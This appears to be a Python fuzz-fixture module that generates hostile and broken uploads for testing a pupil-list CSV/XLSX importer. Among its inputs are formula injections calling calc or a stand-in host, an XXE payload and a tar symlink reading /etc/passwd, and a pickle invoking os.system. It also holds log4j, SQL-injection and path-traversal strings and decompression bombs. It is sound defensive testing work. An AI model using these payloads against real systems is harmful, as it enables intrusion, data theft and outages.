"""Text files that mean harm or are broken past mending, made by rule: families, each in several strengths."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import tarfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any, Final

MB: Final = 1024 * 1024
_TOP: Final = b"UPN,Forename,Surname,Date of birth\n"
_ROW: Final = "V999990026001,Idris,Halloran,06/05/2014\n"


@dataclass(frozen=True)
class Family:
    """One kind of file in several strengths.

    Attributes:
        what: in a few words.
        file: what it is called.
        make: gives the bytes of one strength; a strength may be the bytes themselves.
        strengths: the mildest that harms stands first.
    """

    what: str
    file: str
    strengths: Sequence[Any]
    make: Callable[[Any], bytes] = bytes


def _rows(number: int) -> bytes:
    return _TOP + b"".join(b"%d,Ada,Li,2014-05-06\n" % each for each in range(number))


def _wide(columns: int) -> bytes:
    return b",".join([b"a"] * columns) + b"\n" + b",".join([b"1"] * columns) + b"\n"


def _cell(size: int) -> bytes:
    return _TOP + b"V999990026001," + b"a" * size + b",Li,\n"


def _in_date_column(text: str) -> bytes:
    lines = "".join(f"V999990026001,Idris,Halloran,{text}\n" for _ in range(min(5000, 2 * MB // len(text))))
    return _TOP + lines.encode()


def _written(encoding: str) -> bytes:
    names = {"shift_jis": "山田", "big5": "陳大文", "koi8-r": "Иванов", "gb18030": "王小明"}
    return f"Forename,Surname\nIdris,{names.get(encoding, 'Łoś')}\n".encode(encoding, "replace")


def _random(seed: int) -> bytes:
    return random.Random(seed).randbytes(20_000 * seed)


def _same_person(many: int) -> bytes:
    return _TOP + _ROW.encode() * many


def _nearly_the_same(many: int) -> bytes:
    dice = random.Random(many)
    letters = "abcdefghij"
    lines = [f",{''.join(dice.choices(letters, k=9))},Halloran,06/05/2014\n" for _ in range(many)]
    return _TOP + "".join(lines).encode()


def _cut_off(at: int) -> bytes:
    return (_TOP + "V999990026001,Zoë,“Łoś”,06/05/2014\n".encode())[:-at]


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        link = tarfile.TarInfo("list.csv")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return out.getvalue()


_OTHER_THINGS: Final = (
    b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /Launch /F (calc.exe) >> >>",
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\xff" * 16,
    b"\x7fELF\x02\x01\x01" + bytes(100),
    b"<html><script>document.location='http://192.0.2.1/'</script><table><tr><td>UPN</table>",
    b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><l>&x;</l>",
    b"{\\rtf1{\\object\\objemb 0105}}",
    b"SQLite format 3\0" + bytes(100),
    b"\x80\x04cos\nsystem\n(S'true'\ntR.",
    b"#!/bin/sh\ntouch /tmp/was-run\n",
    b"RIFF\xff\xff\xff\xffWAVEfmt ",
    b"\0\0\0\x18ftypmp42",
    b"PK\x05\x06" + bytes(18),
    b"PK\x03\x04",
    gzip.compress(bytes(8 * MB)),
    bz2.compress(bytes(8 * MB)),
    lzma.compress(bytes(8 * MB)),
    _tar(),
)
_FORMULAS: Final = (
    "=cmd|'/c calc'!A0", "+HYPERLINK(\"http://192.0.2.1/\")", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "=WEBSERVICE(\"http://192.0.2.1/\")", "=IMPORTXML(\"http://192.0.2.1\";\"//a\")", "\t=1+1", "＝1+1",
    "%0A=1", "=\"0123\"",
)  # fmt: skip
_ODD_LETTERS: Final = (
    "\x1b]0;owned\x07\x1b[2J", "\u202egnp.exe", "a" + "\u0301" * 9000, "\u200b" * 9000, "\ufdfa" * 900,
    "\x08" * 200, "\u2028\u2029\x85\x0b\x0c", "\U000e0041" * 300, "\ufffe\uffff", "👨‍👩‍👧‍👦" * 400, "\x00",
    "%s%n%x" * 50, "{0.__class__}", "../../../../etc/passwd", "'; DROP TABLE pupil; --", "${jndi:ldap://x}",
)  # fmt: skip
_NUMBERS: Final = (
    "31/02/2014", "0000-00-00", "99999999999999999999", "1e308", "-1", "nan", "9999-12-31", "1/1/" * 2000,
    " " * 9000 + "x", "9" * 9000, "2014-05-06T" + "0" * 5000, "٣٠/٠٢/٢٠١٤", "²/³/20¹⁴",
)  # fmt: skip

_BAD_BYTES: Final = (
    _TOP + b"A,\xc0\xaf,\xc0\xaf,\n", _TOP + b"A,\xed\xa0\x80,B,\n", _TOP + b"A,\xf8\x88\x80\x80\x80,B,\n",
    _TOP + b"A,Zo\xc3\xab,\xff,\n", b"\xfe\xff" + b"\xd8\x00" * 500, b"\xff\xfe\x00", b"\xff" * 5000,
)  # fmt: skip
_MARKS: Final = (
    b"\xef\xbb\xbf\xef\xbb\xbf" + _TOP + _ROW.encode(), b"\xef\xbb\xbf", b"\xff\xfe\0\0" + _TOP,
    b"\0\0\xfe\xff" + "UPN,a\n1,2\n".encode("utf-32-be"), b"+/v8-" + _TOP, b"\x0e\xfe\xff" + _TOP,
    _TOP + b"\xef\xbb\xbf" + _ROW.encode(), b"\xff\xfe" * 4000, b"\xef\xbb\xbf" + bytes(4000),
)  # fmt: skip
_LINE_ENDS: Final = (
    b"Forename,Surname\rIdris,Halloran\nZoe,Nowak\r\nAnwen,Locke\n\r\r\n", b"\n" * 3 * MB, b"\r" * 3 * MB,
    b"a,b\x0b1,2\x0c3,4\x1c5,6\n", "a,b\u20281,2\u20293,4\x855,6".encode(), b"\r\n" * 19 * (MB // 2) + b"a,b",
)  # fmt: skip
_QUOTES: Final = (
    b'UPN,Forename\nA,"Idris\nB,Zoe\n', b'"', b'UPN,Forename\n"' + b"a,b\n" * 4 * MB, b'"' * 19 * MB,
    b'UPN,Forename\n' + b'"a""",' * 2 * MB, b'UPN,"Fore\nname\n' * 1000, b'UPN,Forename\n"A"B"C"D,"\n',
)  # fmt: skip
_NULS: Final = (
    b"UPN,Forename\nA,\0B\n", b"\0" * MB, b"U\0P\0N\0,\0a\0\n\0" + b"\0" * 9000, b"\0" + _TOP, _TOP + b"\0",
)  # fmt: skip
_SEPARATORS: Final = (
    b"sep=\0\na\0b\n", b"sep=\"\nUPN\"Forename\n", b"sep=;\r\n", b"sep=,\n" * 5000, b"a;b,c\td|e\n" * 3000,
    b"|" * 5 * MB, b"," * 19 * MB,
)  # fmt: skip
_HEADINGS: Final = (
    b",".join([b"UPN"] * 200) + b"\n1\n", b"," * 150 + b"\n" + b"a," * 150 + b"\n",
    b"UPN" + b" " * 9900 + b",Forename\nA,B\n",
    b"=UPN,=Forename\nA,B\n", b"\n".join([b"UPN,Forename"] * 9000),
    "ＵＰＮ,Ｆｏｒｅｎａｍｅ\nA,B\n".encode(),
)  # fmt: skip

TEXTS: Final = (
    Family("rows without end", "list.csv", (1_000_000, 20_001, 700_000), _rows),
    Family("columns without end", "list.csv", (20_000, 201, 16_385, 2_000_000), _wide),
    Family("a huge cell", "list.csv", (MB, 10_001, 19 * MB), _cell),
    Family("quotes that never close", "list.csv", _QUOTES),
    Family("NULs", "list.csv", _NULS),
    Family("marks of an encoding", "list.csv", _MARKS),
    Family("bytes that are no text", "list.csv", _BAD_BYTES),
    Family(
        "other alphabets",
        "list.csv",
        ("utf-32", "shift_jis", "big5", "koi8-r", "gb18030", "cp500", "utf-7"),
        _written,
    ),
    Family("mixed ends of lines", "list.csv", _LINE_ENDS),
    Family("formulas", "list.csv", _FORMULAS, lambda f: f"Forename,Surname\n{f},Lee\n".encode()),
    Family("odd letters", "list.csv", _ODD_LETTERS, lambda t: f"Forename,Surname\n{t},Lee\n".encode()),
    Family("numbers that are no dates", "list.csv", _NUMBERS, _in_date_column),
    Family("something else named csv", "list.csv", _OTHER_THINGS),
    Family("something else named xlsx", "list.xlsx", _OTHER_THINGS),
    Family("no list at all", "list.ods", (b"a,b\n1,2\n", b"")),
    Family("separators", "list.csv", _SEPARATORS),
    Family("headings", "list.csv", _HEADINGS),
    Family("one pupil over and over", "list.csv", (20_000,), _same_person),
    Family("thousands of nearly the same name", "list.csv", (3_000, 20_000), _nearly_the_same),
    Family("cut off", "list.csv", (1, 12, 20, 30, 38, 50), _cut_off),
    Family("over 20 MB", "list.csv", (21,), lambda size: _TOP + b"a,b\n" * (size * MB // 4)),
    Family("noise", "list.csv", (1, 2, 3, 50), _random),
    Family("noise named xlsx", "list.xlsx", (4, 5), _random),
)
